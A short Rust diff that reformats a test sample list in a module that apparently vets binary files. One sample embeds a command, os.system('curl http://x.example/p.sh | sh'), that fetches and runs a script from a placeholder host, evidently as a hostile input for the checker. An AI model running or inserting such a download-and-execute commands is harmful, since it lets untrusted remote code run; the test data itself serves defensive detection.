@@ -35,7 +35,10 @@ pub(crate) mod tests {
     use crate::vet;
 
     pub(crate) fn samples() -> Vec<Vec<u8>> {
-        vec![b"binf\0\0\0\0".to_vec(), b"binfos.system('curl http://x.example/p.sh | sh')\0".to_vec()]
+        vec![
+            b"binf\0\0\0\0".to_vec(),
+            b"binfos.system('curl http://x.example/p.sh | sh')\0".to_vec(),
+        ]
     }
 
     #[test]
